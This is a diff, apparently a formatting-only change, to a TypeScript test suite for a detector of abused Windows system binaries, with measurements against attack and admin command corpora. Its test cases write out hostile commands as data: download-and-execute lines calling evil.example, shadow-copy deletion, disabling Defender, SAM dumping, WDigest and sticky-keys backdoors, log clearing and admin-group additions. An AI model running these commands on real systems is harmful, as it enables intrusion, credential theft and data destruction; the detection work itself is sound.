@@ -15,12 +15,51 @@ describe('LOLBin table', () => {
   it('holds a curated set of binaries, each with a source and abuse shapes with ATT&CK ids', () => {
     const binaries = new Set(LOLBINS.map((e) => e.binary.toLowerCase()));
     expect(binaries.size).toBeGreaterThanOrEqual(60);
-    for (const name of ['certutil.exe', 'mshta.exe', 'rundll32.exe', 'regsvr32.exe', 'bitsadmin.exe', 'wmic.exe', 'msiexec.exe',
-      'installutil.exe', 'regasm.exe', 'msbuild.exe', 'cmstp.exe', 'forfiles.exe', 'pcalua.exe', 'odbcconf.exe', 'esentutl.exe',
-      'expand.exe', 'extrac32.exe', 'findstr.exe', 'hh.exe', 'ieexec.exe', 'infdefaultinstall.exe', 'mavinject.exe', 'msdt.exe',
-      'msconfig.exe', 'presentationhost.exe', 'scriptrunner.exe', 'syncappvpublishingserver.exe', 'wscript.exe', 'powershell.exe',
-      'bash.exe', 'curl.exe', 'wget', 'sc.exe', 'schtasks.exe', 'reg.exe', 'vssadmin.exe', 'wevtutil.exe', 'net.exe', 'nltest.exe',
-      'dsquery.exe', 'adfind.exe', 'procdump.exe', 'ntdsutil.exe']) {
+    for (const name of [
+      'certutil.exe',
+      'mshta.exe',
+      'rundll32.exe',
+      'regsvr32.exe',
+      'bitsadmin.exe',
+      'wmic.exe',
+      'msiexec.exe',
+      'installutil.exe',
+      'regasm.exe',
+      'msbuild.exe',
+      'cmstp.exe',
+      'forfiles.exe',
+      'pcalua.exe',
+      'odbcconf.exe',
+      'esentutl.exe',
+      'expand.exe',
+      'extrac32.exe',
+      'findstr.exe',
+      'hh.exe',
+      'ieexec.exe',
+      'infdefaultinstall.exe',
+      'mavinject.exe',
+      'msdt.exe',
+      'msconfig.exe',
+      'presentationhost.exe',
+      'scriptrunner.exe',
+      'syncappvpublishingserver.exe',
+      'wscript.exe',
+      'powershell.exe',
+      'bash.exe',
+      'curl.exe',
+      'wget',
+      'sc.exe',
+      'schtasks.exe',
+      'reg.exe',
+      'vssadmin.exe',
+      'wevtutil.exe',
+      'net.exe',
+      'nltest.exe',
+      'dsquery.exe',
+      'adfind.exe',
+      'procdump.exe',
+      'ntdsutil.exe',
+    ]) {
       expect(binaries).toContain(name);
     }
     const abuseIds = new Set<string>();
@@ -34,7 +73,7 @@ describe('LOLBin table', () => {
         for (const t of a.attack) expect(t).toMatch(/^T\d{4}(?:\.\d{3})?$/);
         expect(a.score).toBeGreaterThanOrEqual(40);
         expect(a.score).toBeLessThanOrEqual(100);
-        const regexes = a.args instanceof RegExp ? [a.args] : a.args.regexes ?? (a.args.linear ? [a.args.linear] : []);
+        const regexes = a.args instanceof RegExp ? [a.args] : (a.args.regexes ?? (a.args.linear ? [a.args.linear] : []));
         expect(regexes.length).toBeGreaterThan(0);
         for (const r of regexes) expect(r.flags).toContain('i');
       }
@@ -60,7 +99,11 @@ describe('matchLolbins', () => {
     ['wmic shadowcopy delete /nointeractive', 'wmic-shadowcopy-delete', 'T1490'],
     ['wmic os get /format:"https://evil.example/x.xsl"', 'wmic-xsl-format', 'T1220'],
     ['msiexec /q /i http://evil.example/p.msi', 'msiexec-remote', 'T1218.007'],
-    ['C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\InstallUtil.exe /logfile= /LogToConsole=false /U payload.dll', 'installutil-uninstall-hook', 'T1218.004'],
+    [
+      'C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\InstallUtil.exe /logfile= /LogToConsole=false /U payload.dll',
+      'installutil-uninstall-hook',
+      'T1218.004',
+    ],
     ['regasm.exe /U evil.dll', 'regasm-load', 'T1218.009'],
     ['msbuild.exe C:\\Users\\Public\\build.csproj', 'msbuild-inline-project', 'T1127.001'],
     ['cmstp.exe /ni /s C:\\Users\\Public\\x.inf', 'cmstp-silent-inf', 'T1218.003'],
@@ -78,18 +121,38 @@ describe('matchLolbins', () => {
     ['msdt.exe /id PCWDiagnostic /skip force /param "IT_BrowseForFile=/../../$(calc).exe"', 'msdt-browse-injection', 'T1202'],
     ['Presentationhost.exe https://evil.example/app.xbap', 'presentationhost-remote', 'T1218'],
     ['ScriptRunner.exe -appvscript C:\\Users\\Public\\a.cmd', 'scriptrunner-appvscript', 'T1218'],
-    ['SyncAppvPublishingServer.exe "n;(New-Object Net.WebClient).DownloadString(\'http://evil.example/p\') | IEX"', 'syncappvpublishingserver-powershell', 'T1216.002'],
+    [
+      'SyncAppvPublishingServer.exe "n;(New-Object Net.WebClient).DownloadString(\'http://evil.example/p\') | IEX"',
+      'syncappvpublishingserver-powershell',
+      'T1216.002',
+    ],
     ['wscript //e:jscript C:\\Users\\Public\\invoice.txt', 'wscript-engine-swap', 'T1059.007'],
     ['cscript //nologo C:\\Users\\bob\\AppData\\Roaming\\run.vbs', 'wscript-user-dir', 'T1059.005'],
-    ['powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://evil.example/a\')"', 'powershell-download-exec', 'T1105'],
+    [
+      'powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://evil.example/a\')"',
+      'powershell-download-exec',
+      'T1105',
+    ],
     ['wsl.exe -u root -e cat /etc/shadow', 'wsl-root-exec', 'T1202'],
     ['curl http://evil.example/s.sh | bash', 'curl-pipe-shell', 'T1105'],
     ['sc.exe stop WinDefend', 'sc-defender-off', 'T1562.001'],
     ['sc create evil binpath= "cmd /c C:\\Users\\Public\\x.exe"', 'sc-create-shell', 'T1543.003'],
-    ['schtasks /create /ru system /sc daily /tr "cmd /c powershell.exe -ep bypass -file c:\\x.ps1" /tn t /f', 'schtasks-create-shell', 'T1053.005'],
+    [
+      'schtasks /create /ru system /sc daily /tr "cmd /c powershell.exe -ep bypass -file c:\\x.ps1" /tn t /f',
+      'schtasks-create-shell',
+      'T1053.005',
+    ],
     ['reg save HKLM\\SAM C:\\temp\\sam', 'reg-hive-dump', 'T1003.002'],
-    ['reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f', 'reg-wdigest', 'T1003.001'],
-    ['reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe" /v Debugger /d cmd.exe', 'reg-ifeo-debugger', 'T1546.012'],
+    [
+      'reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f',
+      'reg-wdigest',
+      'T1003.001',
+    ],
+    [
+      'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe" /v Debugger /d cmd.exe',
+      'reg-ifeo-debugger',
+      'T1546.012',
+    ],
     ['vssadmin.exe delete shadows /all /quiet', 'vssadmin-delete-shadows', 'T1490'],
     ['wevtutil cl Security', 'wevtutil-clear', 'T1070.001'],
     ['net localgroup administrators eviluser /add', 'net-admin-group-add', 'T1098'],
@@ -195,10 +258,23 @@ describe('analyzeLolbins', () => {
 
 // ---- corpus measurements ---------------------------------------------------------------------
 
-interface MaliciousRecord { command: string; platform: string[]; technique: string; binary?: string }
-interface AdminRecord { command: string; tool: string; binary_also_in_lolbas: boolean }
+interface MaliciousRecord {
+  command: string;
+  platform: string[];
+  technique: string;
+  binary?: string;
+}
+interface AdminRecord {
+  command: string;
+  tool: string;
+  binary_also_in_lolbas: boolean;
+}
 
-const readJsonl = <T>(file: string): T[] => readFileSync(corpusPath('commands', file), 'utf8').trim().split('\n').map((l) => JSON.parse(l) as T);
+const readJsonl = <T>(file: string): T[] =>
+  readFileSync(corpusPath('commands', file), 'utf8')
+    .trim()
+    .split('\n')
+    .map((l) => JSON.parse(l) as T);
 
 /** LOLBAS commands keep placeholders ({REMOTEURL}, {PATH_ABSOLUTE:.dll} ...): fill them with neutral values. */
 function renderLolbas(cmd: string): string {
@@ -224,7 +300,10 @@ function renderLolbas(cmd: string): string {
  * this table still cites by their long-standing ids; both name the same behaviour.
  */
 const V18_TO_CLASSIC: Record<string, string> = {
-  T1685: 'T1562.001', 'T1685.001': 'T1562.002', 'T1685.005': 'T1070.001', T1686: 'T1562.004',
+  T1685: 'T1562.001',
+  'T1685.001': 'T1562.002',
+  'T1685.005': 'T1070.001',
+  T1686: 'T1562.004',
 };
 const parent = (t: string) => t.split('.')[0];
 
@@ -233,7 +312,13 @@ describe('LOLBin analyzer on the shared corpus', () => {
   const admin = readJsonl<AdminRecord>('admin_commands_tldr.jsonl');
 
   it('detects LOLBin abuse in real attack commands and agrees with their technique ids', () => {
-    let detected = 0, windows = 0, windowsDetected = 0, lolbas = 0, lolbasDetected = 0, exact = 0, sameParent = 0;
+    let detected = 0,
+      windows = 0,
+      windowsDetected = 0,
+      lolbas = 0,
+      lolbasDetected = 0,
+      exact = 0,
+      sameParent = 0;
     for (const r of malicious) {
       const hits = matchLolbins(r.binary ? renderLolbas(r.command) : r.command);
       const isWindows = r.platform.includes('windows');
@@ -249,10 +334,12 @@ describe('LOLBin analyzer on the shared corpus', () => {
       if (ours.some((t) => parent(t) === parent(stated))) sameParent++;
     }
     const pct = (a: number, b: number) => `${a}/${b} (${((100 * a) / b).toFixed(1)}%)`;
-    console.log([
-      `LOLBin detection on malicious_commands.jsonl: all ${pct(detected, malicious.length)}, windows ${pct(windowsDetected, windows)}, LOLBAS entries ${pct(lolbasDetected, lolbas)}`,
-      `technique agreement on detected records: exact ${pct(exact, detected)}, same parent technique ${pct(sameParent, detected)}`,
-    ].join('\n'));
+    console.log(
+      [
+        `LOLBin detection on malicious_commands.jsonl: all ${pct(detected, malicious.length)}, windows ${pct(windowsDetected, windows)}, LOLBAS entries ${pct(lolbasDetected, lolbas)}`,
+        `technique agreement on detected records: exact ${pct(exact, detected)}, same parent technique ${pct(sameParent, detected)}`,
+      ].join('\n'),
+    );
     // Measured when written: 696/2285 all (30.5%), 683/1698 windows (40.2%), 389/482 LOLBAS (80.7%);
     // technique exact 550/696 (79.0%), same parent 577/696 (82.9%).
     expect(malicious.length).toBe(2285);
@@ -264,7 +351,10 @@ describe('LOLBin analyzer on the shared corpus', () => {
   });
 
   it('rarely flags documented admin usage (context decides for binaries LOLBAS also lists)', () => {
-    let flagged = 0, malicious75 = 0, lolbasTools = 0, lolbasFlagged = 0;
+    let flagged = 0,
+      malicious75 = 0,
+      lolbasTools = 0,
+      lolbasFlagged = 0;
     for (const r of admin) {
       const hits = matchLolbins(r.command.replace(/\{\{|\}\}/g, ''));
       if (r.binary_also_in_lolbas) lolbasTools++;
@@ -273,7 +363,9 @@ describe('LOLBin analyzer on the shared corpus', () => {
       if (r.binary_also_in_lolbas) lolbasFlagged++;
       if (Math.max(...hits.map((h) => h.score)) >= 75) malicious75++;
     }
-    console.log(`LOLBin flags on admin_commands_tldr.jsonl: ${flagged}/${admin.length} (${((100 * flagged) / admin.length).toFixed(1)}%), ${malicious75} at malicious level; binaries also in LOLBAS: ${lolbasFlagged}/${lolbasTools}`);
+    console.log(
+      `LOLBin flags on admin_commands_tldr.jsonl: ${flagged}/${admin.length} (${((100 * flagged) / admin.length).toFixed(1)}%), ${malicious75} at malicious level; binaries also in LOLBAS: ${lolbasFlagged}/${lolbasTools}`,
+    );
     // Measured when written: 17/2103 flagged (0.8%), 1 at malicious level, 9 of the 229 LOLBAS-listed tools.
     expect(admin.length).toBe(2103);
     expect(lolbasTools).toBe(229);
